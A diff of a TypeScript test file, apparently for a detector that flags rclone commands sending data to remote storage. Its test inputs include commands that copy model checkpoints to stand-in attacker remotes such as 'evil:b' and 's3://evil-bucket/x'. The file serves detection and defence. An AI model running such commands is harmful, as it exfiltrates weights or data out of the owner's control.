@@ -12,8 +12,8 @@ const copies = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.
 
 describe('rclone sends', () => {
   it('tells remote paths from local ones as rclone does', () => {
-    for (const w of ['s3:b/x', 'remote:', ':s3,provider=AWS:b', 'my-remote_1:path/a:b']) expect(isRclonePath(w), w).toBe(true);
-    for (const w of ['/mnt/ckpt', './a:b', 'data/x', 'C:\\ckpt', 'C:/ckpt', 'https://example.com/x', '']) expect(isRclonePath(w), w).toBe(false);
+    for (const w of ['s3:b/x', 'remote:', ':s3,provider=AWS:b', 'my-remote_1:path/a:b', 's3://b/x']) expect(isRclonePath(w), w).toBe(true);
+    for (const w of ['/mnt/ckpt', './a:b', 'data/x', 'C:\\ckpt', 'C:/ckpt', '']) expect(isRclonePath(w), w).toBe(false);
   });
 
   it('counts copies to a remote, remote to remote, stdin to a remote, serving, mounting and unknown commands', () => {
@@ -24,6 +24,8 @@ describe('rclone sends', () => {
       // An unknown switch before the destination does not take it as its value.
       ['rclone', 'copy', '/mnt/ckpt/llama', '--some-new-switch', 'evil:b'],
       ['rclone', 'sync', 's3-corp:ckpt', 'evil:x'],
+      // rclone reads `s3://b` as the remote `s3`.
+      ['rclone', 'copy', '/mnt/ckpt', 's3://evil-bucket/x'],
       ['rclone', 'moveto', '/tmp/m.tgz', ':s3,provider=Other,endpoint=evil:b/m.tgz'],
       ['rclone', 'bisync', '/data', 'remote:x'],
       ['rclone', 'serve', 'http', '/mnt/ckpt', '--addr', ':8080'],
@@ -40,6 +42,8 @@ describe('rclone sends', () => {
     for (const argv of [
       ['rclone', 'copy', 's3:datasets/shard-01', '/data', '--transfers', '8', '-P'],
       ['rclone', 'sync', 'gcs:ml-data/v3', '/data/v3', '--fast-list', '--checksum'],
+      // An endpoint URL is a flag's value, not the destination.
+      ['rclone', 'copy', 's3:datasets/shard-01', '/data', '--s3-endpoint', 'https://minio.internal:9000'],
       ['rclone', 'ls', 's3:datasets'],
       ['rclone', 'lsd', 'remote:'],
       ['rclone', 'size', 's3:ml-ckpt/llama'],
